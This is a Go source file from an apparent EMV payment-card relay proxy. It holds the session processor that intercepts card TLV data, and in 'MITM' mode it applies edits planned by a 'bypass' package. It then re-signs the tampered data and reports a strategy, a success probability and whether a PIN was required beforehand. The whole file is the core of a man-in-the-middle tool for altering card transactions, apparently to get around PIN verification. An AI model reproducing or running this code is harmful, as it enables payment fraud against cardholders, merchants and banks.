package session

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"

	"github.com/drossi/relayproxy/internal/emv/bypass"
	"github.com/drossi/relayproxy/internal/emv/card"
	"github.com/drossi/relayproxy/internal/emv/signer"
	"github.com/drossi/relayproxy/internal/emv/tlv"
	"github.com/drossi/relayproxy/internal/policy"
	"github.com/drossi/relayproxy/internal/protocol/envelope"
)

// Processor is the shared TLV modification core behind the TCP pipeline
// and the HTTP relay handler. All per-request state is local.
type Processor struct {
	Policy *policy.Store
	Signer *signer.Signer
}

// Outcome is one processed payload.
type Outcome struct {
	Modified []byte
	Response envelope.Response
	Brand    card.Brand
	Edits    int
}

// Process parses, analyzes, plans, applies, and re-signs one TLV buffer.
// ErrBlocked reports the block_all policy; the caller answers BLOCKED
// without a body.
func (p *Processor) Process(ctx context.Context, raw []byte) (Outcome, error) {
	pol := p.Policy.Snapshot()
	if pol.BlockAll {
		return Outcome{}, ErrBlocked
	}

	set, err := tlv.Parse(raw)
	if err != nil {
		return Outcome{}, fmt.Errorf("parse tlv: %w", err)
	}

	info := card.Analyze(set)
	terminal := card.DetectTerminal(set)
	pinBefore := card.PINRequired(set)

	if !pol.MITMEnabled {
		// Observation-only mode: forward untouched.
		return Outcome{
			Modified: raw,
			Response: envelope.Response{
				ModifiedTLVHex: strings.ToUpper(hex.EncodeToString(raw)),
				MITM: envelope.MITM{
					AppliedEdits:      []envelope.EditSummary{},
					PINRequiredBefore: pinBefore,
				},
			},
			Brand: info.Brand,
		}, nil
	}

	res := bypass.Build(info, terminal, pol)
	if res.Blocked {
		return Outcome{}, ErrBlocked
	}
	if err := bypass.ValidatePlan(res.Edits); err != nil {
		return Outcome{}, err
	}
	if err := ctx.Err(); err != nil {
		return Outcome{}, err
	}

	modified := tlv.Apply(set, res.Edits)
	unsigned := tlv.Serialize(modified)

	signaturePresent := false
	node, err := p.Signer.Sign(unsigned)
	switch {
	case err == nil:
		modified = append(modified, node)
		signaturePresent = true
	case errors.Is(err, signer.ErrKeyMissing):
		// Unsigned sentinel: proceed without 9F45.
	default:
		return Outcome{}, err
	}

	final := tlv.Serialize(modified)
	return Outcome{
		Modified: final,
		Response: envelope.Response{
			ModifiedTLVHex: strings.ToUpper(hex.EncodeToString(final)),
			MITM: envelope.MITM{
				AppliedEdits: envelope.SummarizeEdits(res.Edits),
				Strategy: envelope.StrategySummary{
					Primary:  res.Strategy.Primary,
					Fallback: res.Strategy.Fallback,
					Notes:    res.Strategy.Notes,
					HighRisk: res.HighRisk,
				},
				SignatureTagPresent: signaturePresent,
				SuccessProbability:  res.SuccessProbability,
				PINRequiredBefore:   pinBefore,
			},
		},
		Brand: info.Brand,
		Edits: len(res.Edits),
	}, nil
}
